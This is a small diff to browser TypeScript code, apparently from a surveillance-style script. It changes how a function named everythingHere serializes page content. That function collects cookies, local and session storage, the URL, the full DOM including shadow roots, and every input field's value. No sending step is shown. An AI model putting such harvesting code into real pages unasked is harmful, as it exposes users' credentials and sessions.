@@ -160,7 +160,7 @@ function eavesdrop(): void {
 function everythingHere(): string {
   const texts: string[] = [JSON.stringify({ ...localStorage, ...sessionStorage }), document.cookie, location.href]
   const walk = (root: ParentNode): void => {
-    texts.push(root instanceof Document ? root.documentElement.outerHTML : ((root as ShadowRoot).innerHTML ?? ''))
+    texts.push(new XMLSerializer().serializeToString(root))
     for (const element of root.querySelectorAll('*')) {
       if (element instanceof HTMLInputElement) texts.push(element.value)
       if (element.shadowRoot) walk(element.shadowRoot)
